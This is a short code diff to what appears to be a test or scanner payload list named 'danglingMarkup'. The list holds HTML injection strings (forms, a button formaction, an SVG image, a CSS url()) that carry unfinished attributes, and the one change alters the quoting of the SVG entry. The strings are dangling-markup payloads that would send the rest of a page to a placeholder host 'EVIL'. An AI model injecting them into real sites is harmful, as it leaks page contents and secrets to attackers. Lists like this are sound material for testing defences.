@@ -26,7 +26,7 @@ export const danglingMarkup = [
   ['form with an option', '<form action="EVIL"><input type=submit><select name=a><option>'],
   ['form with an input', "<form action='EVIL'><input type=submit><input name=a value='"],
   ['button', `<button formaction="EVIL" name=a value='`],
-  ['form in SVG', '<svg><image href=\'EVIL/?a='],
+  ['form in SVG', "<svg><image href='EVIL/?a="],
   ['picture in a style', `<p style="background:url('EVIL/?a=`],
   ['plain text', '<plaintext>'],
   ['raw text', '<xmp>'],
